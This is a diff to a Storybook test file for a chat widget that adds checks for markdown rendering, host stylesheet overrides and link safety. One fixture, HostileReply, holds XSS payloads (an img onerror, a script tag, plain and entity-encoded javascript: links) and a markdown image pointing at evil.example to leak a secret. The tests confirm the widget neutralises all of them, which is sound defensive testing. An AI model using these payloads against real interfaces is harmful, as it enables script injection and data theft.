@@ -3,14 +3,16 @@
  * through the real reducer. No network: the play functions assert what each state shows.
  */
 import type { Meta, StoryObj } from '@storybook/react-vite';
-import { useEffect, useState } from 'react';
+import { useEffect, useLayoutEffect, useState } from 'react';
 import { expect, userEvent, waitFor, within } from 'storybook/test';
 import { ChatLauncher } from '../src/components/chat-launcher.tsx';
 import { ChatPanel } from '../src/components/chat-panel.tsx';
 import type { ChatEvent } from '../src/core/reduce.ts';
 import { ChatStoreProvider } from '../src/react/context.tsx';
+import diagramPath from './chat-diagram.svg?no-inline';
 import {
   assistantSaid,
+  assistantStreaming,
   at,
   connected,
   frame,
@@ -32,6 +34,19 @@ type Story = StoryObj<typeof meta>;
 
 const ANSWER =
   'chatwire streams replies **token by token**, keeps your place while you scroll, and hands you to a person whenever you ask.';
+
+/** What a reader sees of ANSWER: its words, the `**` markers turned into bold. */
+const ANSWER_SHOWN =
+  'chatwire streams replies token by token, keeps your place while you scroll, and hands you to a person whenever you ask.';
+
+/** `element` shows ANSWER as rendered markdown: the words, no markers, the bold in <strong>. */
+async function expectAnswerShown(element: Element | null | undefined) {
+  await expect(element).toHaveTextContent(ANSWER_SHOWN);
+  await expect(element).not.toHaveTextContent('**');
+  const bold = element?.querySelectorAll('strong') ?? [];
+  await expect(bold).toHaveLength(1);
+  await expect(bold[0]?.textContent).toBe('token by token');
+}
 
 const conversation = (): ChatEvent[] => [
   ...connected(),
@@ -80,7 +95,7 @@ export const Conversation: Story = {
     await expect(within(log).getByText('What does chatwire do?')).toBeVisible();
     const reply = log.querySelector('[data-role="assistant"]');
     await expect(reply).toHaveAttribute('data-status', 'complete');
-    await expect(reply).toHaveTextContent(ANSWER);
+    await expectAnswerShown(reply);
   },
 };
 
@@ -148,9 +163,9 @@ export const StreamingAnimated: Story = {
     await waitFor(() => expect(reply()).toHaveAttribute('data-status', 'complete'), {
       timeout: 5000,
     });
-    await expect(reply()).toHaveTextContent(ANSWER);
-    // Then the whole reply is announced, once.
-    await expect(announced()).toBe(`Assistant: ${ANSWER}`);
+    await expectAnswerShown(reply());
+    // Then the whole reply is announced, once, as the words it shows: no markdown markers.
+    await expect(announced()).toBe(`Assistant: ${ANSWER_SHOWN}`);
   },
 };
 
@@ -416,23 +431,68 @@ export const Unauthorized: Story = {
   },
 };
 
+/**
+ * A host page's own stylesheet: plain, unlayered CSS, as an app without Tailwind writes it.
+ * It goes first in <head>, before chatwire's stylesheet, to show that load order does not
+ * matter: chatwire's classes sit in the `components` cascade layer, and unlayered rules beat
+ * every layer.
+ */
+const HOST_CSS = `
+.host-square { border-radius: 0; }
+.host-user-bubble { background-color: #047857; color: #fff; }
+`;
+
+function HostStylesheet({ css }: { css: string }) {
+  useLayoutEffect(() => {
+    const style = document.createElement('style');
+    style.dataset.hostStylesheet = '';
+    style.textContent = css;
+    document.head.prepend(style);
+    return () => style.remove();
+  }, [css]);
+  return null;
+}
+
 export const CustomLabelsAndClasses: Story = {
   render: () => (
-    <Seeded events={conversation()}>
-      <ChatPanel
-        labels={{ title: 'Support', send: 'Envoyer' }}
-        classNames={{ root: 'cw:rounded-none', userMessage: 'cw:bg-emerald-700' }}
-      />
-    </Seeded>
+    <>
+      <HostStylesheet css={HOST_CSS} />
+      <Seeded events={conversation()}>
+        <ChatPanel
+          labels={{ title: 'Support', send: 'Envoyer' }}
+          classNames={{ root: 'host-square', userMessage: 'host-user-bubble' }}
+        />
+      </Seeded>
+    </>
   ),
   play: async ({ canvasElement }) => {
     const canvas = within(canvasElement);
     await expect(canvas.getByRole('region', { name: 'Support' })).toBeVisible();
     await expect(canvas.getByRole('button', { name: 'Envoyer' })).toBeVisible();
-    const root = canvasElement.querySelector('[data-slot="root"]');
-    // The host's class replaced chatwire's rounding rather than fighting it.
-    await expect(root?.className).toContain('cw:rounded-none');
-    await expect(root?.className).not.toContain('cw:rounded-(--chatwire-radius-panel)');
+    // The host's sheet loaded before chatwire's: a tie on specificity would go to chatwire.
+    const hostSheet = document.querySelector('style[data-host-stylesheet]');
+    const chatwireSheet = [...document.styleSheets].find((sheet) =>
+      [...sheet.cssRules].some((rule) => rule.cssText.includes('--chatwire-radius-panel')),
+    )?.ownerNode;
+    await expect(chatwireSheet).toBeTruthy();
+    await expect(
+      (hostSheet?.compareDocumentPosition(chatwireSheet as Node) ?? 0) &
+        Node.DOCUMENT_POSITION_FOLLOWING,
+    ).toBeTruthy();
+    // chatwire's classes stay on the elements; the host's unlayered rules win anyway.
+    const root = canvasElement.querySelector('[data-slot="root"]') as HTMLElement;
+    await expect(root.className).toContain('cw:rounded-(--chatwire-radius-panel)');
+    await expect(root).toHaveClass('host-square');
+    await expect(getComputedStyle(root).borderTopLeftRadius).toBe('0px');
+    await expect(getComputedStyle(root).borderBottomRightRadius).toBe('0px');
+    const userBubble = canvasElement.querySelector('[data-role="user"] > div') as HTMLElement;
+    await expect(userBubble).toHaveClass('host-user-bubble');
+    await expect(getComputedStyle(userBubble).backgroundColor).toBe('rgb(4, 120, 87)');
+    await expect(getComputedStyle(userBubble).color).toBe('rgb(255, 255, 255)');
+    // Parts the host did not restyle keep chatwire's defaults.
+    const replyBubble = canvasElement.querySelector('[data-role="assistant"] > div') as HTMLElement;
+    await expect(getComputedStyle(replyBubble).borderTopLeftRadius).toBe('12px');
+    await expect(getComputedStyle(replyBubble).backgroundColor).not.toBe('rgb(4, 120, 87)');
   },
 };
 
@@ -744,7 +804,8 @@ export const LauncherOpen: Story = {
     await userEvent.keyboard('{Escape}');
     await waitFor(() => expect(canvas.queryByRole('dialog')).toBeNull());
     await expect(launcher).toHaveFocus();
-    await expect(launcher).toHaveAttribute('aria-expanded', 'false');
+    // The dialog's `close` event, which updates the button, follows the close by a task.
+    await waitFor(() => expect(launcher).toHaveAttribute('aria-expanded', 'false'));
   },
 };
 
@@ -774,7 +835,8 @@ export const CustomMessageRendering: Story = {
     const canvas = within(canvasElement);
     const custom = canvas.getByTestId('custom-bubble');
     await expect(within(custom).getByRole('img', { name: 'Bot avatar' })).toBeVisible();
-    await expect(custom).toHaveTextContent(ANSWER);
+    // The default bubble inside the host's wrapper still renders the reply's markdown.
+    await expectAnswerShown(custom);
     // Other messages keep chatwire's rendering, and the transcript is still one list.
     await expect(canvas.getByText('What does chatwire do?')).toBeVisible();
     await expect(canvasElement.querySelectorAll('[role="log"] > ol > li')).toHaveLength(3);
@@ -803,6 +865,27 @@ export const NarrowMobileViewport: Story = {
   },
 };
 
+/** The `index`-th assistant reply in the transcript; the last one by default. */
+const replyIn = (canvasElement: HTMLElement, index = -1) =>
+  [...canvasElement.querySelectorAll<HTMLElement>('[data-role="assistant"]')].at(index) as
+    | HTMLElement
+    | undefined;
+
+/** Every link in `element` points at a web or mail address: no script, data or relative URL. */
+async function expectOnlySafeLinks(element: HTMLElement) {
+  for (const link of element.querySelectorAll('a')) {
+    await expect(link.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:)/);
+  }
+}
+
+/** A link out of the conversation: opens in a new tab, says so, and leaks nothing. */
+async function expectExternalLink(link: HTMLElement, href: string) {
+  await expect(link).toHaveAttribute('href', href);
+  await expect(link).toHaveAttribute('target', '_blank');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
+  await expect(link).toHaveAccessibleName(/\(opens in a new tab\)$/);
+}
+
 export const MarkdownHeavyReply: Story = {
   render: () => (
     <Seeded
@@ -819,11 +902,368 @@ export const MarkdownHeavyReply: Story = {
     </Seeded>
   ),
   play: async ({ canvasElement }) => {
-    const reply = canvasElement.querySelector('[data-role="assistant"]');
+    const reply = replyIn(canvasElement) as HTMLElement;
     await expect(reply).toHaveAttribute('data-status', 'complete');
-    // Until markdown rendering lands, model output is shown as text, never as HTML.
-    await expect(reply?.querySelector('a, strong, code')).toBeNull();
-    await expect(reply).toHaveTextContent('<ChatWidget token={jwt} />');
+    const inReply = within(reply);
+    // `##` is a level-3 heading: the panel's title is the h2, replies nest right below it.
+    await expect(inReply.getByRole('heading', { level: 3, name: 'Steps' })).toBeVisible();
+    await expect(reply.querySelector('h1, h2, h4')).toBeNull();
+    const steps = reply.querySelectorAll('ol > li');
+    await expect(steps).toHaveLength(2);
+    await expect(steps[0]).toHaveTextContent('Install with npm install chatwire');
+    await expect(steps[0]?.querySelector('strong')).toHaveTextContent('Install');
+    await expect(steps[0]?.querySelector('code')).toHaveTextContent('npm install chatwire');
+    await expect(steps[1]?.querySelector('em')).toHaveTextContent('styles');
+    // The fenced block is code, shown as text: JSX in a reply never becomes an element.
+    const block = reply.querySelector('pre[data-slot="code-block"]');
+    await expect(block).toHaveAttribute('data-language', 'tsx');
+    await expect(block?.textContent).toBe('<ChatWidget token={jwt} />');
+    await expect(reply.querySelector('chatwidget')).toBeNull();
+    const quote = reply.querySelector('blockquote') as HTMLElement;
+    await expect(quote).toHaveTextContent('Tip: see the docs');
+    const link = within(quote).getByRole('link', { name: 'the docs (opens in a new tab)' });
+    await expectExternalLink(link, 'https://example.com/');
+    // No markup is left showing.
+    for (const marker of ['##', '**', '```', '](']) {
+      await expect(reply).not.toHaveTextContent(marker);
+    }
+  },
+};
+
+const EVERY_ELEMENT = `# Release notes
+
+Plain text with *emphasis*, **strong**, ~~struck~~ and \`inline code\`.
+A single line break stays a line break.
+
+### Links
+
+A [titled link](https://example.com/docs "The docs"), a bare https://example.org/start and [mail us](mailto:help@example.com).
+
+- Bullet one
+- Bullet two
+
+1. First step
+2. Second step
+
+- [x] Shipped
+- [ ] Still to do
+
+> Quoted advice,
+> over two lines.
+
+| Plan | Price |
+| :--- | ---: |
+| Free | $0 |
+| Pro | $9 |
+
+\`\`\`js
+const answer = 42;
+\`\`\`
+
+---
+
+The end.`;
+
+export const MarkdownEveryElement: Story = {
+  render: () => (
+    <Seeded
+      events={[
+        ...connected(),
+        userSaid('user:1', 'Show me everything markdown can do'),
+        ...assistantSaid('msg_all', EVERY_ELEMENT),
+      ]}
+    >
+      <ChatPanel />
+    </Seeded>
+  ),
+  play: async ({ canvasElement }) => {
+    const reply = replyIn(canvasElement) as HTMLElement;
+    await expect(reply).toHaveAttribute('data-status', 'complete');
+    const inReply = within(reply);
+    await expect(inReply.getByRole('heading', { level: 3, name: 'Release notes' })).toBeVisible();
+    await expect(inReply.getByRole('heading', { level: 4, name: 'Links' })).toBeVisible();
+
+    const first = reply.querySelector('[data-slot="markdown"] > p') as HTMLElement;
+    await expect(first.querySelector('em')).toHaveTextContent('emphasis');
+    await expect(first.querySelector('strong')).toHaveTextContent('strong');
+    await expect(first.querySelector('del')).toHaveTextContent('struck');
+    await expect(first.querySelector('code')).toHaveTextContent('inline code');
+    // Replies are chat: one line break is a line break, not a space.
+    await expect(first.querySelectorAll('br')).toHaveLength(1);
+
+    await expectExternalLink(
+      inReply.getByRole('link', { name: 'titled link (opens in a new tab)' }),
+      'https://example.com/docs',
+    );
+    await expect(inReply.getByRole('link', { name: /^titled link/ })).toHaveAttribute(
+      'title',
+      'The docs',
+    );
+    await expectExternalLink(
+      inReply.getByRole('link', { name: 'https://example.org/start (opens in a new tab)' }),
+      'https://example.org/start',
+    );
+    await expect(inReply.getByRole('link', { name: /^mail us/ })).toHaveAttribute(
+      'href',
+      'mailto:help@example.com',
+    );
+    await expectOnlySafeLinks(reply);
+
+    const [bullets, tasks] = [...reply.querySelectorAll('ul')];
+    await expect(bullets?.querySelectorAll('li')).toHaveLength(2);
+    await expect(bullets).toHaveTextContent('Bullet oneBullet two');
+    const numbered = reply.querySelector('ol');
+    await expect(numbered?.querySelectorAll('li')).toHaveLength(2);
+    await expect(numbered).toHaveTextContent('First stepSecond step');
+    // A task's box is drawn for the eye and spoken as words; there is no form control.
+    const [shipped, todo] = [...(tasks?.querySelectorAll('li') ?? [])];
+    await expect(shipped).toHaveTextContent('Done: Shipped');
+    await expect(shipped?.querySelector('[aria-hidden="true"]')?.textContent).toBe('☑');
+    await expect(todo).toHaveTextContent('To do: Still to do');
+    await expect(todo?.querySelector('[aria-hidden="true"]')?.textContent).toBe('☐');
+    await expect(reply.querySelector('input')).toBeNull();
+
+    const quote = reply.querySelector('blockquote');
+    await expect(quote?.textContent).toBe('Quoted advice,over two lines.');
+    await expect(quote?.querySelectorAll('br')).toHaveLength(1);
+
+    const table = reply.querySelector('[data-slot="table"] > table') as HTMLElement;
+    const headers = [...table.querySelectorAll('th')];
+    await expect(headers.map((cell) => cell.textContent)).toEqual(['Plan', 'Price']);
+    for (const header of headers) await expect(header).toHaveAttribute('scope', 'col');
+    await expect(within(table).getByRole('columnheader', { name: 'Price' })).toBeVisible();
+    await expect(getComputedStyle(headers[1] as HTMLElement).textAlign).toBe('right');
+    const rows = [...table.querySelectorAll('tbody tr')].map((row) =>
+      [...row.querySelectorAll('td')].map((cell) => cell.textContent),
+    );
+    await expect(rows).toEqual([
+      ['Free', '$0'],
+      ['Pro', '$9'],
+    ]);
+
+    const code = reply.querySelector('pre[data-slot="code-block"]');
+    await expect(code).toHaveAttribute('data-language', 'js');
+    await expect(code?.textContent).toBe('const answer = 42;');
+    await expect(reply.querySelectorAll('hr')).toHaveLength(1);
+    await expect(reply.querySelector('[data-slot="markdown"] > :last-child')).toHaveTextContent(
+      'The end.',
+    );
+    for (const marker of ['**', '~~', '- [', '| ---', '```', '---']) {
+      await expect(reply).not.toHaveTextContent(marker);
+    }
+  },
+};
+
+export const MarkdownMidStream: Story = {
+  render: () => (
+    <Seeded
+      events={[
+        ...connected(),
+        userSaid('user:1', 'What matters most?'),
+        // Cut off inside a bold phrase…
+        ...assistantStreaming('msg_bold', 'The ', 'key ', 'point ', 'is ', '**bold ', 'te'),
+        userSaid('user:2', 'And how do I install it?'),
+        // …and inside a code fence that has not closed yet.
+        ...assistantStreaming(
+          'msg_fence',
+          'Install ',
+          'it:\n\n',
+          '```tsx\n',
+          "import { ChatWidget } from 'chatwire';\n",
+          '<ChatWidget ',
+          'token',
+        ),
+      ]}
+    >
+      <ChatPanel />
+    </Seeded>
+  ),
+  play: async ({ canvasElement }) => {
+    const bold = replyIn(canvasElement, 0) as HTMLElement;
+    await expect(bold).toHaveAttribute('data-status', 'streaming');
+    // The open `**` shows as bold at once, not as asterisks that turn bold later.
+    await expect(bold.querySelector('strong')?.textContent).toBe('bold te');
+    await expect(bold).toHaveTextContent('The key point is bold te');
+    await expect(bold).not.toHaveTextContent('*');
+
+    const fence = replyIn(canvasElement, 1) as HTMLElement;
+    await expect(fence).toHaveAttribute('data-status', 'streaming');
+    await expect(fence.querySelector('p')).toHaveTextContent('Install it:');
+    // The open fence is already a code block, its text arriving inside it.
+    const block = fence.querySelector('pre[data-slot="code-block"]');
+    await expect(block).toHaveAttribute('data-language', 'tsx');
+    await expect(block?.querySelector('code')?.textContent).toBe(
+      "import { ChatWidget } from 'chatwire';\n<ChatWidget token",
+    );
+    await expect(fence).not.toHaveTextContent('```');
+    await expect(fence.querySelector('chatwidget')).toBeNull();
+  },
+};
+
+/** Set by the hostile reply's payloads if any of them ever ran. */
+declare global {
+  interface Window {
+    __chatwireHacked?: unknown;
+  }
+}
+
+const HOSTILE_REPLY = `Here is the page you asked for:
+
+<img src=x onerror="window.__chatwireHacked=1">
+
+<script>window.__chatwireHacked=1</script>
+
+Try [click](javascript:alert(1)) or [x](&#106;avascript:alert(1)).
+
+![exfil](https://evil.example/?q=secret)`;
+
+export const HostileReply: Story = {
+  render: () => (
+    <Seeded
+      events={[
+        ...connected(),
+        userSaid('user:1', 'Summarise this web page for me'),
+        ...assistantSaid('msg_hostile', HOSTILE_REPLY),
+      ]}
+    >
+      <ChatPanel />
+    </Seeded>
+  ),
+  play: async ({ canvasElement }) => {
+    const reply = replyIn(canvasElement) as HTMLElement;
+    await expect(reply).toHaveAttribute('data-status', 'complete');
+    // Raw HTML is shown as the text it is…
+    await expect(reply).toHaveTextContent('<img src=x onerror="window.__chatwireHacked=1">');
+    await expect(reply).toHaveTextContent('<script>window.__chatwireHacked=1</script>');
+    // …and never becomes an element.
+    await expect(reply.querySelector('img, script, iframe, object, embed')).toBeNull();
+    await expect(document.querySelector('img[src="x"]')).toBeNull();
+    // Script URLs, plain or hidden behind a character reference, are not links.
+    await expectOnlySafeLinks(reply);
+    const blocked = [...reply.querySelectorAll('[data-slot="blocked-link"]')];
+    await expect(blocked.map((span) => span.textContent)).toEqual(['click', 'x']);
+    await expect(reply.querySelector('[href*="javascript" i]')).toBeNull();
+    // The image is not fetched: it is offered as a link the user may choose to follow.
+    await expectExternalLink(
+      within(reply).getByRole('link', { name: 'exfil (opens in a new tab)' }),
+      'https://evil.example/?q=secret',
+    );
+    await expect(
+      performance.getEntriesByType('resource').some(({ name }) => name.includes('evil.example')),
+    ).toBe(false);
+    await expect(window.__chatwireHacked).toBeUndefined();
+  },
+};
+
+/**
+ * A picture served by the app itself, so the allowed image loads without a network. Not
+ * inlined: Vite would turn a small file into a `data:` URL, which chatwire never loads.
+ */
+const DIAGRAM_URL = new URL(diagramPath, window.location.href).href;
+
+/** Images may load from the app's own origin only; any other host's stays a link. */
+const allowOwnImages = (url: URL) => url.origin === window.location.origin;
+
+export const ImagesAllowed: Story = {
+  render: () => (
+    <Seeded
+      events={[
+        ...connected(),
+        userSaid('user:1', 'How does it fit together?'),
+        ...assistantSaid(
+          'msg_images',
+          `Like this:\n\n![Widget talks to server](${DIAGRAM_URL})\n\nElsewhere: ![Tracking pixel](https://tracker.example/pixel.png)`,
+        ),
+      ]}
+    >
+      <ChatPanel allowImage={allowOwnImages} />
+    </Seeded>
+  ),
+  play: async ({ canvasElement }) => {
+    const reply = replyIn(canvasElement) as HTMLElement;
+    const inReply = within(reply);
+    // The allowed host's image is an image, with its alternative text, sending no referrer.
+    const image = inReply.getByRole('img', { name: 'Widget talks to server' });
+    await expect(image).toHaveAttribute('src', DIAGRAM_URL);
+    await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
+    // Any other host's stays a link, never fetched.
+    await expect(reply.querySelectorAll('img')).toHaveLength(1);
+    await expectExternalLink(
+      inReply.getByRole('link', { name: 'Tracking pixel (opens in a new tab)' }),
+      'https://tracker.example/pixel.png',
+    );
+    await expect(
+      performance.getEntriesByType('resource').some(({ name }) => name.includes('tracker.example')),
+    ).toBe(false);
+  },
+};
+
+export const PlainTextReplies: Story = {
+  render: () => (
+    <Seeded
+      events={[
+        ...connected(),
+        userSaid('user:1', 'Where are the docs?'),
+        ...assistantSaid(
+          'msg_plain',
+          'Markup stays as typed: **not bold**, `not code`.\n# Not a heading\nDocs: https://example.com/docs/start.',
+        ),
+      ]}
+    >
+      <ChatPanel renderMarkdown={false} />
+    </Seeded>
+  ),
+  play: async ({ canvasElement }) => {
+    const reply = replyIn(canvasElement) as HTMLElement;
+    await expect(reply.querySelector('[data-slot="markdown"]')).toBeNull();
+    await expect(reply).toHaveTextContent('Markup stays as typed: **not bold**, `not code`.');
+    await expect(reply).toHaveTextContent('# Not a heading');
+    await expect(reply.querySelector('strong, em, code, h1, h2, h3, h4, h5, h6')).toBeNull();
+    // A web address is still a link; the full stop after it is not part of it.
+    await expectExternalLink(
+      within(reply).getByRole('link', {
+        name: 'https://example.com/docs/start (opens in a new tab)',
+      }),
+      'https://example.com/docs/start',
+    );
+    await expect(reply.querySelectorAll('a')).toHaveLength(1);
+  },
+};
+
+/** The host's own reply renderer: here it just shouts, and says whether the reply is done. */
+const renderShouting = (text: string, { streaming }: { streaming: boolean }) => (
+  <div data-testid="custom-reply" data-streaming={streaming}>
+    {text.toUpperCase()}
+  </div>
+);
+
+export const CustomReplyRenderer: Story = {
+  render: () => (
+    <Seeded
+      events={[
+        ...connected(),
+        userSaid('user:1', 'Say it loud'),
+        ...assistantSaid('msg_loud', '**Shouting** is fine here.'),
+        userSaid('user:2', 'Again'),
+        ...assistantStreaming('msg_loud_2', 'Still ', 'typ'),
+      ]}
+    >
+      <ChatPanel renderMarkdown={renderShouting} />
+    </Seeded>
+  ),
+  play: async ({ canvasElement }) => {
+    const [done, streaming] = within(canvasElement).getAllByTestId('custom-reply');
+    // The host's renderer gets the reply's raw text; chatwire's markdown stays out of it.
+    await expect(done?.textContent).toBe('**SHOUTING** IS FINE HERE.');
+    await expect(done).toHaveAttribute('data-streaming', 'false');
+    await expect(streaming?.textContent).toBe('STILL TYP');
+    await expect(streaming).toHaveAttribute('data-streaming', 'true');
+    await expect(canvasElement.querySelector('[data-slot="markdown"], strong')).toBeNull();
+    // It renders inside chatwire's bubble, which keeps the reply's state.
+    await expect(streaming?.closest('[data-role="assistant"]')).toHaveAttribute(
+      'data-status',
+      'streaming',
+    );
   },
 };
 
